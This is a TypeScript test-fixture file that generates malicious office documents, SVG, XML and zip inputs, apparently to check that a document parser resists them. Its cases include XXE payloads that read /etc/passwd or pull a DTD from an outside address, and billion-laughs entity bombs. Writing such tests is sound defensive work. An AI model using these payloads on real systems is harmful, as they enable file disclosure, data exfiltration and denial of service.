import { deflateRawSync } from 'node:zlib'
import { cases } from '../case.ts'
import { docx, openDocument, xlsx } from '../writers/office.ts'
import { zip } from '../writers/zip.ts'

const doctype = (inside: string) => `<?xml version="1.0"?><!DOCTYPE x [${inside}]><x>&a;</x>`

const laughs = Array.from({ length: 9 }, (_, index) => {
  const name = (step: number) => String.fromCharCode(97 + step)
  return index === 0 ? '<!ENTITY a "lol">' : `<!ENTITY ${name(index)} "${`&${name(index - 1)};`.repeat(10)}">`
}).join('')

export const markupCases = cases([
  [
    'xxe.docx',
    'a docx with an XML external entity',
    () => docx('', { 'word/document.xml': doctype('<!ENTITY a SYSTEM "file:///etc/passwd">') }),
  ],
  [
    'xxe-parameter.xlsx',
    'an xlsx with an external parameter entity',
    () => xlsx('', { 'xl/workbook.xml': doctype('<!ENTITY % a SYSTEM "http://203.0.113.7/a.dtd"> %a;') }),
  ],
  [
    'laughs.docx',
    'a docx with an XML entity bomb',
    () => docx('', { 'docProps/custom.xml': doctype(laughs).replace('&a;', '&i;') }),
  ],
  [
    'laughs.svg',
    'an SVG with an XML entity bomb',
    () =>
      `<?xml version="1.0"?><!DOCTYPE svg [${laughs}]><svg xmlns="http://www.w3.org/2000/svg"><text>&i;</text></svg>`,
  ],
  ['laughs.xml', 'an XML entity bomb', () => doctype(laughs).replace('&a;', '&i;')],
  [
    'laughs.odt',
    'an odt with an XML entity bomb',
    () => openDocument('text', '', { 'content.xml': doctype(laughs).replace('&a;', '&i;') }),
  ],
  [
    'laughs.zip',
    'an SVG entity bomb in a zip',
    () =>
      zip([
        {
          name: 'a.svg',
          packed: deflateRawSync(`<!DOCTYPE svg [${laughs}]><svg>&i;</svg>`),
          data: `<!DOCTYPE svg [${laughs}]><svg>&i;</svg>`,
        },
      ]),
  ],
])
